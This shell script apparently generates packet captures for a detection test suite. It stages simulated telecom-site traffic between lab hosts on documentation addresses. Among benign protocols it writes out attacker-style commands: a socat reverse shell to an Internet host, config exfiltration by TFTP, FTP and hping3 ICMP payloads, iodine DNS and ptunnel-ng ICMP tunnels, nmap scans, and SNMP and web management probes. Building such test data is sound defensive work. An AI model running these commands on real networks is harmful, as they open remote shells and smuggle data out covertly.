# Sourced by make.sh: the real programs of which make/tradecraft.py composes captures. piece_a_b makes pieces/a-b.pcap; the comment above it
# becomes its line in the manifest. Packages beside those that make.sh names:
#   freediameter freeradius freeradius-utils hping3 iodine ipmitool iputils-ping nmap openvpn osmo-ggsn ptunnel-ng socat softflowd vsftpd
#   wireguard-go wireguard-tools bird2

# The hosts of tests/tradecraft/site.yaml that programs run on.
tradecraft_up() {
    net_up
    add_host router 1 192.0.2.1/24
    add_host router2 2 192.0.2.2/24
    add_host gnb 17 192.0.2.17/24
    add_host gnb19 19 192.0.2.19/24
    add_host dns 53 192.0.2.53/24
    add_host mme 68 192.0.2.68/24
    add_host hss 70 192.0.2.70/24
    add_host dra 72 192.0.2.72/24
    add_host pgw 73 192.0.2.73/24
    add_host ems 100 192.0.2.100/24
    add_host nms 101 192.0.2.101/24
    add_host logs 110 192.0.2.110/24
    add_host archive 111 192.0.2.111/24
    add_host collector 112 192.0.2.112/24
    add_host aaa 113 192.0.2.113/24
    add_host ntp 123 192.0.2.123/24
    add_host bmc 150 192.0.2.150/24
    add_host listed 7 198.51.100.7/24
    add_host lab 20 198.51.100.20/24
    add_host tac 9 203.0.113.9/24
    add_host partner 161 203.0.113.161/24
    add_host cloud 220 203.0.113.220/24
}
TRADECRAFT_HOSTS='router router2 gnb gnb19 dns mme hss dra pgw ems nms logs archive collector aaa ntp bmc listed lab tac partner cloud'

# A base station fetches a page by TLS from a host on the Internet: what beacons and first contacts are made of.
piece_tls_call() {
    certificate update www.cloud.example -30 300 root
    web cloud 443 update
    in_host gnb curl -sk -o /dev/null --resolve www.cloud.example:443:203.0.113.220 https://www.cloud.example/
}

# A base station sends 4 kB by TLS to a host on the Internet, which answers with a line: uploads are made of it.
piece_tls_upload() {
    certificate drop drop.cloud.example -30 300 root
    serve cloud tcp/443 socat openssl-listen:443,reuseaddr,fork,cert="$tmp/drop.pem",key="$tmp/drop.key",verify=0 system:'head -c 4000 >/dev/null; echo done'
    head -c 4000 /dev/urandom >"$tmp/four"
    in_host gnb timeout 3 openssl s_client -quiet -connect 203.0.113.220:443 -servername drop.cloud.example <"$tmp/four" >/dev/null 2>&1 || true
}

# A base station fetches a page by HTTP.
piece_http_call() {
    printf 'fine\n' >"$tmp/ca-root/index.html"
    serve cloud tcp/80 python3 -m http.server --directory "$tmp/ca-root" 80
    in_host gnb curl -s -o /dev/null http://203.0.113.220/
}

# A router loads an image of 1.5 MB by HTTP.
piece_http_image() {
    head -c 1500000 /dev/urandom >"$tmp/ca-root/image-7.2.bin"
    serve cloud tcp/80 python3 -m http.server --directory "$tmp/ca-root" 80
    in_host router curl -s --limit-rate 800k -o /dev/null http://203.0.113.220/image-7.2.bin
}

# An SSH session with one command.
piece_ssh() {
    ssh_serve router 22
    ssh_call ems 192.0.2.1 22
}

# An SSH session of a person: five commands, some seconds apart.
piece_ssh_typed() {
    ssh_serve gnb 22
    (for _ in 1 2 3 4 5; do sleep 1; echo 'uptime'; done) | in_host tac timeout 20 ssh -F none -tt -i "$tmp/client_key" -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR root@192.0.2.17 'cat >/dev/null & for i in 1 2 3 4 5; do sleep 1; date; done' >/dev/null 2>&1 || true
}

# A router sends its configuration to the archive by SFTP.
piece_sftp() {
    mkdir -p "$tmp/keep"
    seq 2000 >"$tmp/running-config"
    ssh_serve archive 22
    echo "put $tmp/running-config $tmp/keep/" | in_host router sftp -q -F none -i "$tmp/client_key" -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR root@192.0.2.111 >/dev/null 2>&1
}

# A router's configuration leaves by TFTP to a host on the Internet.
piece_tftp_put() {
    mkdir -p "$tmp/tftp"
    chmod 777 "$tmp/tftp"
    seq 2000 >"$tmp/running-config"
    serve cloud udp/69 atftpd --daemon --no-fork --user root --group root --bind-address 203.0.113.220 "$tmp/tftp"
    in_host router atftp --put --local-file "$tmp/running-config" --remote-file running-config 203.0.113.220
}

# A router fetches a small file by TFTP from element management.
piece_tftp_get() {
    mkdir -p "$tmp/tftp"
    seq 50 >"$tmp/tftp/motd"
    chmod 777 "$tmp/tftp" "$tmp/tftp/motd"
    serve ems udp/69 atftpd --daemon --no-fork --user root --group root --bind-address 192.0.2.100 "$tmp/tftp"
    in_host router atftp --get --remote-file motd --local-file "$tmp/motd" 192.0.2.100
}

# A router's configuration leaves by FTP to a host on the Internet.
piece_ftp_put() {
    mkdir -p "$tmp/ftp/up" /var/run/vsftpd/empty
    chmod 555 "$tmp" "$tmp/ftp"
    chmod 777 "$tmp/ftp/up"
    seq 4000 >"$tmp/running-config"
    cat >"$tmp/vsftpd.conf" <<EOF
listen=YES
background=NO
anonymous_enable=YES
write_enable=YES
anon_upload_enable=YES
anon_root=$tmp/ftp
local_enable=NO
seccomp_sandbox=NO
EOF
    serve cloud tcp/21 vsftpd "$tmp/vsftpd.conf"
    in_host router curl -s -T "$tmp/running-config" ftp://203.0.113.220/up/running-config || true
    chmod 755 "$tmp"
}

# A DNS tunnel by iodine: a base station, through the site's resolver, to a name server on the Internet; NULL records; pings inside.
piece_iodine() {
    servers_stop dns
    serve dns udp/53 dnsmasq --keep-in-foreground --no-resolv --no-hosts --port=53 --user=root --pid-file= --server=/t.cloud.example/203.0.113.220
    serve cloud udp/53 iodined -f -c -P example 10.9.0.1 t.cloud.example
    in_host gnb iodine -f -r -T NULL -P example 192.0.2.53 t.cloud.example >>"$tmp/servers.log" 2>&1 &
    for _ in $(seq 80); do in_host gnb ip link show dns0 >/dev/null 2>&1 && break; sleep 0.1; done
    sleep 2
    in_host gnb ping -q -c 12 -i 0.3 -s 400 10.9.0.1 >/dev/null || true
    sleep 1
}

# Look-ups that look odd and are not: ENUM, long names of a content network, reverse look-ups, a key of a zone.
piece_dns_odd() {
    for n in 1 2 3 4 5 6 7 8; do
        in_host mme dig +short +tries=1 +time=1 NAPTR "$n.4.3.2.1.5.5.5.8.4.e164.arpa" @192.0.2.53 >/dev/null || true
        in_host mme dig +short +tries=1 +time=1 -x "192.0.2.$n" @192.0.2.53 >/dev/null || true
        in_host mme dig +short +tries=1 +time=1 NAPTR "topon.s5.pgw0$n.nodes.epc.mnc001.mcc001.3gppnetwork.example" @192.0.2.53 >/dev/null || true
        in_host mme dig +short +tries=1 +time=1 A "d3f1$n.e7.edge-0$n.content.cloud.example" @192.0.2.53 >/dev/null || true
    done
    in_host mme dig +short +tries=1 +time=1 +dnssec DNSKEY example @192.0.2.53 >/dev/null || true
    in_host mme dig +short +tries=1 +time=1 TXT _spf.cloud.example @192.0.2.53 >/dev/null || true
}

# An ICMP tunnel by ptunnel-ng from a base station to a host on the Internet; an SSH session inside.
piece_ptunnel() {
    in_host cloud ip link set lo up
    ssh_serve cloud 22
    in_host cloud ptunnel-ng -r127.0.0.1 -R22 >>"$tmp/servers.log" 2>&1 &
    sleep 0.5
    serve gnb tcp/2222 ptunnel-ng -p203.0.113.220 -l2222 -r127.0.0.1 -R22
    in_host gnb timeout 15 ssh -F none -i "$tmp/client_key" -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o LogLevel=ERROR root@127.0.0.1 'head -c 3000 /dev/zero | base64' >/dev/null || true
}

# A file leaves a router by hping3 in the payload of echo requests, 600 bytes each; the far end says nothing.
piece_hping_file() {
    seq 2000 >"$tmp/running-config"
    in_host cloud sysctl -qw net.ipv4.icmp_echo_ignore_all=1
    in_host router timeout 8 hping3 --icmp -q -c 20 -i u200000 -d 600 --file "$tmp/running-config" 203.0.113.220 >/dev/null 2>&1 || true
    in_host cloud sysctl -qw net.ipv4.icmp_echo_ignore_all=0
}

# Echo replies that nobody asked for, with 200 bytes each, by hping3 from a host on the Internet to a base station.
piece_hping_replies() {
    seq 2000 >"$tmp/orders"
    in_host cloud timeout 8 hping3 --icmp --icmptype 0 -q -c 12 -i u300000 -d 200 --file "$tmp/orders" 192.0.2.17 >/dev/null 2>&1 || true
}

# Pings of network management: default size, and 1400 bytes to test the path; each answered as it was asked.
piece_ping() {
    in_host nms ping -q -c 5 -i 0.3 192.0.2.1 >/dev/null
    in_host nms ping -q -c 8 -i 0.3 -M do -s 1400 192.0.2.1 >/dev/null
}

# nmap from a base station: 60 ports of the hosts beside it.
piece_nmap() {
    in_host gnb nmap -n -Pn -sT --max-retries 0 -T4 --top-ports 60 192.0.2.1 192.0.2.2 192.0.2.70 192.0.2.73 192.0.2.110 >/dev/null 2>&1
}

# nmap from a base station: one port of 40 addresses, of which most are nobody's.
piece_nmap_hosts() {
    local n
    for n in $(seq 200 239); do
        [ "$n" = 220 ] || in_host gnb ip neigh replace "203.0.113.$n" lladdr "02:00:00:00:01:00" dev eth0
    done
    in_host gnb nmap -n -Pn -sT --max-retries 0 -T4 -p 443 203.0.113.200-239 >/dev/null 2>&1
}

# Network management asks twelve neighbours for their SSH identification: few, and all answer or refuse.
piece_discovery() {
    local n
    ssh_serve router 22
    for n in 1 2 17 19 53 68 70 72 73 110 111 112; do
        in_host nms timeout 2 bash -c "exec 3<>/dev/tcp/192.0.2.$n/22 && head -1 <&3" >/dev/null 2>&1 || true
    done
}

tradecraft_snmp() {
    cat >"$tmp/snmpd.conf" <<EOF
agentaddress udp:192.0.2.1:161
rwcommunity example 0.0.0.0/0
createUser reader SHA example-pass AES example-pass
rouser reader priv
EOF
    serve router udp/161 snmpd -f -Lo -C -c "$tmp/snmpd.conf" -p "$tmp/snmpd.pid" -I -smux
}

# A host that is not network management walks a large part of the router's MIB by SNMP, and sets a value.
piece_snmp_walk() {
    tradecraft_snmp
    in_host router2 snmpbulkwalk -v2c -c example -Cr1 192.0.2.1 1.3.6.1.2.1.4 >/dev/null || true
    in_host router2 snmpset -v2c -c example 192.0.2.1 1.3.6.1.2.1.1.6.0 s nowhere >/dev/null || true
}

# Network management reads five values of the router by SNMPv3.
piece_snmp_poll() {
    tradecraft_snmp
    in_host nms snmpget -v3 -l authPriv -u reader -a SHA -A example-pass -x AES -X example-pass 192.0.2.1 \
        1.3.6.1.2.1.1.3.0 1.3.6.1.2.1.1.5.0 1.3.6.1.2.1.2.1.0 1.3.6.1.2.1.2.2.1.10.1 1.3.6.1.2.1.2.2.1.16.1 >/dev/null || true
}

tradecraft_radius() { # tradecraft_radius HOST ADDRESS
    rm -rf "$tmp/raddb"
    cp -rL /etc/freeradius/3.0 "$tmp/raddb"
    rm -f "$tmp/raddb/sites-enabled/inner-tunnel" "$tmp/raddb/mods-enabled/eap"
    printf 'client any {\n ipaddr = 0.0.0.0/0\n secret = testing123\n}\n' >"$tmp/raddb/clients.conf"
    printf 'operator Cleartext-Password := "example"\n' >"$tmp/raddb/mods-config/files/authorize"
    sed -i "s/^\tuser = .*/\tuser = root/; s/^\tgroup = .*/\tgroup = root/" "$tmp/raddb/radiusd.conf"
    cat >"$tmp/raddb/sites-enabled/default" <<EOF
server default {
 listen {
  type = auth
  ipaddr = $2
  port = 1812
 }
 authorize {
  files
  pap
 }
 authenticate {
  Auth-Type PAP {
   pap
  }
 }
}
EOF
    serve "$1" udp/1812 freeradius -f -l stdout -d "$tmp/raddb"
}

# A router asks a RADIUS server on the Internet whether a person may log in.
piece_radius_foreign() {
    tradecraft_radius cloud 203.0.113.220
    printf 'User-Name = "operator"\nUser-Password = "example"\nNAS-IP-Address = 192.0.2.1\n' |
        in_host router radclient -x 203.0.113.220:1812 auth testing123 >/dev/null || true
}

# A router asks the site's RADIUS server.
piece_radius_own() {
    tradecraft_radius aaa 192.0.2.113
    printf 'User-Name = "operator"\nUser-Password = "example"\nNAS-IP-Address = 192.0.2.1\n' |
        in_host router radclient -x 192.0.2.113:1812 auth testing123 >/dev/null || true
}

# A router holds an OpenVPN tunnel to a host on the Internet.
piece_openvpn() {
    certificate vpn vpn.cloud.example -30 300 root
    certificate client client.example -30 300 root
    serve cloud udp/1194 openvpn --dev tun --proto udp --local 203.0.113.220 --port 1194 --tls-server --ifconfig 10.9.1.1 10.9.1.2 --dh none \
        --ca "$tmp/root.pem" --cert "$tmp/vpn.pem" --key "$tmp/vpn.key"
    in_host router openvpn --dev tun --proto udp --nobind --remote 203.0.113.220 1194 --tls-client --ifconfig 10.9.1.2 10.9.1.1 \
        --ca "$tmp/root.pem" --cert "$tmp/client.pem" --key "$tmp/client.key" >>"$tmp/servers.log" 2>&1 &
    sleep 4
    in_host router ping -q -c 4 -i 0.3 10.9.1.1 >/dev/null || true
}

# A router holds a WireGuard tunnel to a host on the Internet (wireguard-go).
piece_wireguard_go() {
    local side peer
    for side in cloud router; do
        wg genkey >"$tmp/wg-$side"
        in_host $side env WG_PROCESS_FOREGROUND=1 wireguard-go -f "wg$side" >>"$tmp/servers.log" 2>&1 &
    done
    sleep 1.5
    in_host cloud wg set wgcloud listen-port 51820 private-key "$tmp/wg-cloud" peer "$(wg pubkey <"$tmp/wg-router")" allowed-ips 10.9.2.2/32
    in_host router wg set wgrouter private-key "$tmp/wg-router" peer "$(wg pubkey <"$tmp/wg-cloud")" allowed-ips 10.9.2.1/32 \
        endpoint 203.0.113.220:51820
    in_host cloud ip address add 10.9.2.1 peer 10.9.2.2 dev wgcloud
    in_host router ip address add 10.9.2.2 peer 10.9.2.1 dev wgrouter
    in_host cloud ip link set wgcloud up
    in_host router ip link set wgrouter up
    in_host router ping -q -c 6 -i 0.3 10.9.2.1 >/dev/null || true
}

# sgsnemu, the emulator of an SGSN, on a router: echo, and a PDP context at the packet gateway (osmo-ggsn).
piece_sgsnemu() {
    cat >"$tmp/ggsn.cfg" <<EOF
log stderr
 logging filter all 1
line vty
 no login
ggsn ggsn0
 gtp state-dir $tmp
 gtp bind-ip 192.0.2.73
 apn internet
  gtpu-mode tun
  tun-device tun4
  type-support v4
  ip prefix dynamic 100.64.16.0/24
  ip dns 0 192.0.2.53
  ip ifconfig 100.64.16.1/24
  no shutdown
 default-apn internet
 no shutdown ggsn
EOF
    serve pgw udp/2123 osmo-ggsn -c "$tmp/ggsn.cfg"
    in_host router timeout 6 sgsnemu --listen 192.0.2.1 --remote 192.0.2.73 --dns 192.0.2.53 --timelimit 4 --contexts 1 --apn internet \
        --imsi 001010000000001 --msisdn 0010000001 --createif --net 100.64.16.0/24 --statedir "$tmp" --pidfile "$tmp/sgsnemu.pid" >>"$tmp/servers.log" 2>&1 || true
}

diameter_conf() { # diameter_conf NAME IDENTITY REALM ADDRESS PEER-IDENTITY PEER-ADDRESS
    certificate "$1" "$2" -30 300 root
    cat >"$tmp/$1.conf" <<EOF
Identity = "$2";
Realm = "$3";
Port = 3868;
SecPort = 0;
No_SCTP;
TwTimer = 6;
ListenOn = "$4";
TLS_Cred = "$tmp/$1.pem", "$tmp/$1.key";
TLS_CA = "$tmp/root.pem";
LoadExtension = "/usr/lib/freeDiameter/dict_nasreq.fdx";
ConnectPeer = "$5" { ConnectTo = "$6"; No_TLS; Port = 3868; No_SCTP; };
EOF
}

# freeDiameter: a mobility entity connects to a peer on the Internet of a realm that is no partner's; watchdogs.
piece_diameter_foreign() {
    diameter_conf far dra.foreign.example foreign.example 203.0.113.220 mme.epc.example 192.0.2.68
    diameter_conf near mme.epc.example epc.example 192.0.2.68 dra.foreign.example 203.0.113.220
    serve cloud tcp/3868 freeDiameterd -c "$tmp/far.conf"
    in_host mme timeout 16 freeDiameterd -c "$tmp/near.conf" >>"$tmp/servers.log" 2>&1 || true
}

# freeDiameter: the mobility entity and the subscriber server of one realm; watchdogs.
piece_diameter_own() {
    diameter_conf hssd hss.epc.example epc.example 192.0.2.70 mme.epc.example 192.0.2.68
    diameter_conf mmed mme.epc.example epc.example 192.0.2.68 hss.epc.example 192.0.2.70
    serve hss tcp/3868 freeDiameterd -c "$tmp/hssd.conf"
    in_host mme timeout 16 freeDiameterd -c "$tmp/mmed.conf" >>"$tmp/servers.log" 2>&1 || true
}

# Somebody on the Internet logs in to the router by SSH on port 22122, 57722 and 22.
piece_ssh_odd() {
    ssh_serve router 22122
    ssh_serve router 57722
    ssh_call cloud 192.0.2.1 22122
    ssh_call cloud 192.0.2.1 57722
}

# SSH where TLS belongs: from a base station to port 443 of a host on the Internet.
piece_ssh_443() {
    ssh_serve cloud 443
    ssh_call gnb 203.0.113.220 443
}

# Time from a server on the Internet; then its variables by mode 6 (ntpq), from the Internet to the site's own server.
piece_ntp_foreign() {
    ntp_serve cloud
    ntp_serve ntp
    in_host gnb ntpdate -q 203.0.113.220 >/dev/null 2>&1 || true
    in_host cloud timeout 4 ntpq -n -c rv 192.0.2.123 >/dev/null 2>&1 || true
    in_host cloud timeout 4 ntpq -n -c peers 192.0.2.123 >/dev/null 2>&1 || true
}

# Time from the site's own server.
piece_ntp_own() {
    ntp_serve ntp
    in_host gnb ntpdate -q 192.0.2.123 >/dev/null 2>&1 || true
}

# softflowd on the router exports what it saw by NetFlow version 9, and by version 5, to a host on the Internet.
piece_netflow() {
    local v
    serve cloud udp/2055 socat -u udp-recv:2055 open:/dev/null
    for v in 9 5; do
        in_host router softflowd -r pieces/ping.pcap -v $v -n 203.0.113.220:2055  >>"$tmp/servers.log" 2>&1 || true
    done
}

# BGP and BFD between two routers (bird).
piece_bgp() {
    local side me him as there
    for side in 1 2; do
        if [ $side = 1 ]; then me=192.0.2.1 him=192.0.2.2 as=64510 there=router; else me=192.0.2.2 him=192.0.2.1 as=64510 there=router2; fi
        cat >"$tmp/bird$side.conf" <<EOF
router id $me;
protocol device {}
protocol bfd { interface "eth0" { min rx interval 1 s; min tx interval 1 s; }; }
protocol bgp { local $me as $as; neighbor $him as $as; hold time 9; keepalive time 3; bfd on; ipv4 { import all; export none; }; }
EOF
        in_host $there bird -f -c "$tmp/bird$side.conf" -s "$tmp/bird$side.ctl" >>"$tmp/servers.log" 2>&1 &
    done
    sleep 16
}

# Lines of a log by logger (util-linux) to the log server.
piece_syslog() {
    local n
    serve logs udp/514 socat -u udp-recv:514 open:/dev/null
    for n in 1 2 3; do
        in_host router logger -n 192.0.2.110 -P 514 -d --rfc3164 -t core "interface xe-0/0/$n: link state is up"
    done
}

# A double-encoded path of the management page, asked for from the Internet, and what CWMP calls a connection request.
piece_webui() {
    mkdir -p "$tmp/www"
    printf 'router-1\n' >"$tmp/www/index.html"
    serve router tcp/80 python3 -m http.server --directory "$tmp/www" 80
    serve router tcp/7547 python3 -m http.server --directory "$tmp/www" 7547
    in_host cloud curl -s -o /dev/null 'http://192.0.2.1/%2577ebui_wsma_http' || true
    in_host cloud curl -s -o /dev/null -X POST 'http://192.0.2.1/%2577ebui_wsma_https' -d '<request/>' || true
    in_host cloud curl -s -o /dev/null 'http://192.0.2.1:7547/' || true
}

# ipmitool asks the baseboard controller, which does not answer.
piece_ipmi() {
    serve bmc udp/623 socat -u udp-recv:623 open:/dev/null
    in_host cloud timeout 4 ipmitool -I lanplus -N 1 -R 2 -H 192.0.2.150 -U example -P example chassis status >/dev/null 2>&1 || true
}

# A shell that calls back: a datagram of 16 bytes to a port on which nobody listens, then a connection of the base station to its sender, with
# a prompt and a command.
piece_callback() {
    serve cloud tcp/8443 socat tcp-listen:8443,reuseaddr,fork system:'sleep 0.3; echo id; sleep 1; echo exit'
    in_host gnb sysctl -qw net.ipv4.icmp_ratelimit=1000
    in_host cloud bash -c 'printf "rU\0\0\313\0\161\334\0\0example" >/dev/udp/192.0.2.17/47808'
    sleep 1.5
    in_host gnb timeout 4 socat tcp:203.0.113.220:8443 exec:'sh -i',stderr >/dev/null 2>&1 || true
}

# NETCONF's call home: a device connects to its manager on port 4334, and is then the server of SSH on that connection (RFC 8071).
piece_call_home() {
    in_host cloud timeout 12 ssh -F none -i "$tmp/client_key" -o ProxyCommand='socat - tcp-listen:4334,reuseaddr' -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR root@home uptime >>"$tmp/servers.log" 2>&1 &
    sleep 1
    in_host gnb timeout 6 socat tcp:203.0.113.220:4334 exec:"/usr/sbin/sshd -i -e -h $tmp/host_key -o AuthorizedKeysFile=$tmp/authorized -o StrictModes=no -o UsePAM=no -o PermitRootLogin=yes" >>"$tmp/servers.log" 2>&1 || true
}
